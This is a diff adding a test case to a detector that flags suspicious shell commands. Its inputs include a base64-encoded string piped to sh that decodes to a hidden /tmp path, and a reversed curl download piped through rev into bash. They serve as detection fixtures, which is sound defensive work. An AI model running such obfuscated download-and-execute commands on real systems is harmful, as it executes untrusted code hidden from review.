@@ -66,6 +66,11 @@ describe('commandSignals: encoded payloads', () => {
       'encodedPayload',
     ]);
     expect(kinds("echo 'hs | i/x//:ptth s- lruc' | rev | bash")).toEqual(['downloadExec', 'encodedPayload']);
+    expect(commandSignals('echo L3RtcC8ueC9ydW4= | base64 -d | sh')).toEqual([
+      { kind: 'encodedPayload', detail: 'base64 | sh' },
+      { kind: 'tempPath', detail: 'decoded payload: /tmp/.x/run' },
+      { kind: 'hiddenPath', detail: 'decoded payload: /tmp/.x/run' },
+    ]);
   });
 });
 
